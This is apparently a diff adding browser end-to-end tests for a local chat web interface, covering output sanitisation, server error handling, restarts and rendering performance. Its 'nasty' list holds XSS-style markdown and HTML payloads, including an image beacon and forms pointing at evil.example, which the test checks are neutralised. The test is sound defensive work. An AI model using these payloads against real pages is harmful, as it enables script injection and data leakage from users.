@@ -1,0 +1,193 @@
+// What the world does to the page: a model that writes what it should not, servers that fail in every way, texts that are long.
+import { check } from "./browser.mjs";
+import { serve, model as file, pageOf, play } from "./serving.mjs";
+import { accessible, ask, fits, look, openPage } from "./web_page.mjs";
+
+const entry = { id: "demo", object: "model", status: { value: "loaded", bytes: 1, requests: 0 }, meta: { n_vocab: 10, n_ctx_train: 512, n_embd: 8, n_params: 1000, size: 1000 } };
+export const chunk = (content, finish = null) => ({ choices: [{ index: 0, delta: content === null ? {} : { content }, logprobs: null, finish_reason: finish }] });
+export const usage = (n) => ({ choices: [], usage: { prompt_tokens: 5, completion_tokens: n }, timings: { predicted_per_second: 500 } });
+
+// Answers of everything but chat.
+export function usual(path) {
+    if (path.startsWith("/v1/models")) return { body: { object: "list", data: [entry] } };
+    if (path === "/health") return { body: { status: "ok" } };
+    if (path.startsWith("/props")) return { body: { default_generation_settings: { n_ctx: 512 } } };
+    if (path.startsWith("/v1/machine")) return { body: { build: "0", time: Date.now() / 1000, began: 0, machine: null, limits: null, models: [] } };
+    return { status: 501, body: { error: { message: "off", type: "not_supported_error" } } };
+}
+
+export async function played(of, handle, work, options = {}) {
+    const stage = await play(await pageOf(of.server.url), handle);
+    const { page, close } = await openPage(of.browser, stage.url, { width: of.width, height: of.width < 800 ? 844 : 860, where: of.where, ...options });
+    try { await work(page, stage); } finally { await close(); await stage.close().catch(() => undefined); }
+}
+
+const nasty = [
+    "<script>window.hurt = 1</script>", "<img src=x onerror=\"window.hurt = 1\">", "<svg onload=window.hurt=1>", "<iframe src=//evil.example></iframe>", "<style>body{display:none}</style>",
+    "[link](javascript:window.hurt=1) [data](data:text/html,<script>window.hurt=1</script>) [ok](https://example.org/?q=1)", "![pixel](https://evil.example/p.png?secret)",
+    "<a href='javascript:window.hurt=1'>x</a> <form action=//evil.example><input name=q></form> <base href=//evil.example>", "<div style='position:fixed;inset:0;background:red'>over</div>",
+    "```html\n<script>window.hurt = 1</script>\n```", "`<b>`", "| a | <img src=x onerror=window.hurt=1> |\n|---|---|\n| 1 | 2 |", "$\\href{javascript:window.hurt=1}{x} \\style{position:fixed}{y}$ and $x^2$",
+    "\u202Eright to left override\u202C and \u2066isolate", "nul \u0000 bell \u0007 escape \u001b[31m", "שלום עולם, this is mixed عربي", `${"a".repeat(30000)}`, `${"<".repeat(2000)}`, "- [x] done\n- [ ] open\n",
+    "&lt;script&gt; &#x3c;script&#x3e; <!-- comment --> <![CDATA[ x ]]> <?php x ?>", "[a]: javascript:window.hurt=1\n\n[a]", "# Title\n\n###### six\n\n> quote\n\n---\n\n1. one\n2. two",
+];
+
+async function hostile(of) {
+    const events = [...nasty.flatMap((x) => { const s = `${x}\n\n`; return s.length > 100 ? [chunk(s)] : [...s].reduce((out, c, i) => { if (i % 3) out[out.length - 1] += c; else out.push(c); return out; }, []).map((c) => chunk(c)); }),
+        chunk(null, "stop"), usage(100), "[DONE]"];
+    await played(of, (path) => path === "/v1/chat/completions" ? { events } : usual(path), async (page) => {
+        await ask(page, "<img src=x onerror='window.hurt=1'> \u202E");
+        await page.waitForTimeout(500);
+        check(await page.evaluate(() => window.hurt === undefined), `${of.where}: what the model wrote was run`);
+        const bad = await page.evaluate(() => {
+            const root = document.querySelector(".markdown");
+            return [...root.querySelectorAll("script,img,iframe,style,form,base,svg,object,embed,link,meta")].map((e) => e.outerHTML)
+                .concat([...root.querySelectorAll("a")].filter((a) => !/^(https?|mailto):/.test(a.getAttribute("href"))).map((a) => a.outerHTML))
+                .concat([...root.querySelectorAll("*")].filter((e) => [...e.attributes].some((x) => x.name.startsWith("on"))).map((e) => e.outerHTML));
+        });
+        check(!bad.length, `${of.where}: ${bad.slice(0, 3)}`);
+        const links = await page.locator(".markdown a").evaluateAll((all) => all.map((a) => [a.href, a.target, a.rel]));
+        check(links.length >= 2 && links.every(([, target, rel]) => target === "_blank" && rel.includes("noopener") && rel.includes("noreferrer")), `${of.where}: links: ${JSON.stringify(links)}`);
+        const said = await page.locator(".markdown").textContent();
+        for (const x of ["<script>window.hurt = 1</script>", "U+202E", "␛", "␀", "<!-- comment -->"]) check(said.includes(x), `${of.where}: ${x} is not shown as what it is`);
+        check(await page.locator(".markdown math").count() >= 1 && await page.locator(".markdown table").count() === 1 && await page.locator(".markdown .code").count() === 1, `${of.where}: mathematics, table, code`);
+        check(await page.evaluate(() => getComputedStyle(document.body).display !== "none"), `${of.where}: a style was taken`);
+        await fits(page, of.where);
+        await accessible(page, of.where);
+        await look(page, of.where, "hostile");
+    });
+}
+
+const fault = (status, error, headers) => ({ status, body: { error: { type: "x", code: null, param: null, ...error } }, headers });
+
+async function failures(of) {
+    let mode = "ok";
+    const modes = {
+        gone: [() => null, /does not answer/], loading: [() => fault(503, { message: "Loading model" }), /loading the model/], draining: [() => fault(503, { message: "the server is shutting down" }), /shutting down/],
+        busy: [() => fault(429, { message: "too many requests wait already" }), /Too many requests/], context: [() => fault(400, { message: "900 tokens", code: "context_length_exceeded" }), /does not fit the context/],
+        model: [() => fault(404, { message: "no model", param: "model" }), /does not have this model/], memory: [() => fault(507, { message: "needs 9 GB of 1" }), /does not fit the memory/],
+        refused: [() => fault(400, { message: "above 2", param: "temperature" }), /does not accept/], server: [() => fault(500, { message: "broken" }), /went wrong/],
+        broken: [() => ({ events: [chunk("half an ans"), 200, null] }), /broke before the answer/], error: [() => ({ events: [chunk("half"), { error: { message: "engine failed", type: "server_error" } }] }), /went wrong/],
+        key: [() => fault(401, { message: "an API key is required" }), /asks for an API key/],
+    };
+    const handle = (path) => {
+        if (path === "/v1/chat/completions") return mode === "ok" ? { events: [chunk("fine"), chunk(null, "stop"), usage(1), "[DONE]"] } : modes[mode][0]();
+        return usual(path);
+    };
+    await played(of, handle, async (page) => {
+        for (const [name, [, sentence]] of Object.entries(modes)) {
+            mode = name;
+            await page.keyboard.press("Alt+KeyN");
+            await page.waitForSelector(".empty");
+            await page.fill(".composer textarea", `question ${name}`);
+            await page.press(".composer textarea", "Enter");
+            await page.waitForSelector(".message .notice.bad");
+            const said = await page.locator(".message .notice.bad").innerText();
+            check(sentence.test(said), `${of.where}: ${name}: ${said}`);
+            check((await page.locator(".message.user .said").innerText()) === `question ${name}`, `${of.where}: ${name}: what was typed is lost`);
+            if (name === "broken" || name === "error") check((await page.locator(".message.assistant .markdown").innerText()).startsWith("half"), `${of.where}: ${name}: what had come is lost`);
+            if (name === "key") {
+                await page.waitForSelector("dialog input[type=password]");
+                await page.fill("dialog input[type=password]", "k");
+                await page.getByRole("button", { name: "Use", exact: true }).click();
+                await page.waitForSelector("dialog", { state: "detached" });
+            }
+            if (name === "context") {
+                await page.getByRole("button", { name: "Continue in a new chat" }).click();
+                check(await page.inputValue(".composer textarea") === "question context", `${of.where}: the question is not taken along`);
+                continue;
+            }
+            mode = "ok";
+            await page.locator(".message .notice").getByRole("button", { name: "Try again" }).click();
+            await page.waitForFunction(() => document.querySelector(".message.assistant .markdown")?.textContent.trim() === "fine", null, { timeout: 10000 }).catch(() => check(false, `${of.where}: ${name}: another try has no answer`));
+            check(await page.locator(".message .notice").count() === 0, `${of.where}: ${name}: the sentence stays`);
+        }
+    }, { quiet: true });
+}
+
+// The server itself with a key, then ended and started again under the page.
+async function restart(of) {
+    const port = 20000 + Math.floor(Math.random() * 20000), flags = [file, "--port", String(port), "--parallel", "2", "-c", "512", "--temp", "0", "--api-key", "sesame"];
+    let server = await serve(...flags);
+    const { page, close } = await openPage(of.browser, server.url, { width: of.width, height: 844, where: of.where, quiet: true });
+    try {
+        await page.waitForSelector("dialog input[type=password]");
+        await look(page, of.where, "key");
+        await page.fill("dialog input[type=password]", "sesame");
+        await page.getByRole("button", { name: "Use", exact: true }).click();
+        await page.waitForSelector("dialog", { state: "detached" });
+        await ask(page, "What is water?");
+        await page.fill(".composer textarea", "still here");
+        await server.close();
+        await page.press(".composer textarea", "Enter");
+        await page.waitForSelector(".message .notice.bad");
+        await page.waitForSelector(".trouble .notice");
+        await look(page, of.where, "gone");
+        server = await serve(...flags);
+        await page.waitForSelector(".trouble", { state: "detached", timeout: 20000 });
+        await page.locator(".message .notice").getByRole("button", { name: "Try again" }).click();
+        await page.waitForFunction(() => document.querySelectorAll(".message .stats").length === 2);
+        check((await page.locator(".message.user .said").last().innerText()) === "still here", `${of.where}: what was typed`);
+    } finally { await close(); await server.close(); }
+}
+
+// 500 tokens a second into a conversation that already has 20,000; how long frames take is measured, and stands in the log.
+async function long(of) {
+    const words = "the quick brown fox jumps over a lazy dog and then goes home to rest".split(" "), text = (n) => Array.from({ length: n }, (_, i) => `${words[(i * 7) % words.length]}${i % 40 === 39 ? ".\n\n" : i % 97 === 96 ? " `code`" : ""} `);
+    let n = 0;
+    const answers = [
+        () => [chunk(text(20000).join("")), chunk(null, "stop"), usage(20000), "[DONE]"],
+        () => [...Array.from({ length: 100 }, (_, i) => [...text(1500).slice(i * 15, i * 15 + 15).map((w) => chunk(w)), 30]).flat(), chunk(null, "stop"), usage(1500), "[DONE]"],
+    ];
+    await played(of, (path) => path === "/v1/chat/completions" ? { events: answers[n++]() } : usual(path), async (page) => {
+        await page.evaluate(() => {
+            window.frames_ = [];
+            let last = performance.now();
+            const tick = (t) => { window.frames_.push(t - last); last = t; requestAnimationFrame(tick); };
+            requestAnimationFrame(tick);
+        });
+        await ask(page, "long");
+        await page.waitForFunction((n) => document.querySelector(".message.assistant .markdown").textContent.length > n, text(20000).join("").length * 0.9);
+        const opening = await page.evaluate(() => window.frames_.splice(0).sort((a, b) => b - a));
+        check(await page.evaluate(() => { const l = document.querySelector(".messages"); return l.scrollHeight - l.scrollTop - l.clientHeight < 60; }), `${of.where}: the end is out of sight`);
+        await ask(page, "more");
+        const list = page.locator(".messages"), writing = await page.evaluate(() => window.frames_.splice(0).sort((a, b) => b - a));
+        await list.evaluate(async (e) => { for (let y = e.scrollHeight; y > 0; y -= 600) { e.scrollTop = y; await new Promise((r) => requestAnimationFrame(r)); } });
+        const scrolling = await page.evaluate(() => window.frames_.splice(0).sort((a, b) => b - a));
+        check((await page.locator(".message.assistant .markdown").last().textContent()).length > 6000, `${of.where}: the text is not whole`);
+        const say = (f) => `${f.length} frames, longest ${f[0].toFixed(0)} ms, above 50 ms: ${f.filter((x) => x > 50).length}`;
+        console.log(`  ${of.where}: 20,000 tokens at once: ${say(opening)}; while written: ${say(writing)}; while scrolled: ${say(scrolling)}`);
+    });
+}
+
+// With the processor throttled fourfold: when one can type, and that the libraries of messages, formulas and curves were not read before.
+async function start(of) {
+    const times = [];
+    for (let i = 0; i < 5; i++)
+        await played(of, (path) => path === "/v1/chat/completions" ? { events: [chunk("half is $\\frac12$"), chunk(null, "stop"), usage(4), "[DONE]"] } : usual(path), async (page, stage) => {
+            const cdp = await page.context().newCDPSession(page);
+            await cdp.send("Emulation.setCPUThrottlingRate", { rate: 4 });
+            await page.addInitScript(() => {
+                new MutationObserver((_, o) => {
+                    if (!document.querySelector(".composer textarea")) return;
+                    window.ready_ = { at: performance.now(), later: Object.keys(window.laminaLater ?? {}) };
+                    o.disconnect();
+                }).observe(document, { childList: true, subtree: true });
+            });
+            await page.goto("about:blank");
+            await page.goto(`${stage.url}/`);
+            await page.waitForFunction(() => window.ready_);
+            const ready = await page.evaluate(() => window.ready_);
+            times.push(ready.at);
+            check(ready.later.length === 0, `${of.where}: ${ready.later} is read before it is asked for`);
+            if (i) return;
+            await cdp.send("Emulation.setCPUThrottlingRate", { rate: 1 });
+            await page.waitForFunction(() => window.laminaLater?.text);
+            check(await page.evaluate(() => !window.laminaLater.formulas && !window.laminaLater.curves), `${of.where}: what no message needs is read`);
+            await ask(page, "half");
+            check(await page.locator(".markdown math").count() === 1 && await page.evaluate(() => Boolean(window.laminaLater.formulas)), `${of.where}: a formula`);
+        });
+    times.sort((a, b) => a - b);
+    console.log(`  ${of.where}: ready after ${times.map((x) => x.toFixed(0)).join(", ")} ms, throttled 4 times`);
+}
+
+export const flows = { hostile, failures, restart, long, start };
